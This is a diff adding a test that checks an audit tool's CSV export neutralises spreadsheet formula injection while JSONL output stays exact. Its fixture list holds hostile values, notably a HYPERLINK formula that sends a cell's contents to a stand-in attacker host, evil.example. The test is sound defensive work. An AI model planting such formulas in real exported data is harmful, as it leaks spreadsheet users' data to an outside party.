@@ -252,3 +252,23 @@ def test_adopt_unchained_on_a_keyed_log_needs_the_key_file(tmp_path):
     out = run("verify-audit", cwd=tmp_path, env={"TMS_AUDIT_HMAC_KEY_FILE": str(key)})
     assert out.returncode == 0 and json.loads(out.stdout)["ok"], out.stdout + out.stderr
     assert run("verify-audit", cwd=tmp_path).returncode == 1  # unverifiable without the key
+
+
+def test_audit_csv_neutralises_formulas_and_jsonl_stays_exact(tmp_path):
+    # A cluster's message lands in error_message: as CSV it must not be a live formula.
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as s:
+        for i, message in enumerate(hostile):
+            s.record_audit("=user" if i == 0 else "bob", "PE-Enable", "c1", status="failure", error_message=message)
+        s.record_audit("carol", "PE-Enable", "c1", status="failure", error_message="plain, a=1 -fine")
+    # Bytes: text mode would turn the message's carriage return into a newline.
+    out = subprocess.run([TMS, "audit", "--format", "csv", "--limit", "100"], cwd=tmp_path, capture_output=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    rows = list(reversed(list(csv.DictReader(io.StringIO(out.stdout.decode(), newline="")))))
+    assert [r["error_message"] for r in rows] == ["'" + m for m in hostile] + ["plain, a=1 -fine"]
+    assert rows[0]["user_id"] == "'=user" and rows[1]["user_id"] == "bob"
+    jsonl = [json.loads(line) for line in run("audit", "--limit", "100", cwd=tmp_path).stdout.splitlines()]
+    assert [r["error_message"] for r in reversed(jsonl)] == hostile + ["plain, a=1 -fine"]
+    assert jsonl[-1]["user_id"] == "=user"
+    help_text = run("audit", "--help").stdout
+    assert "formula" in help_text and "'" in help_text
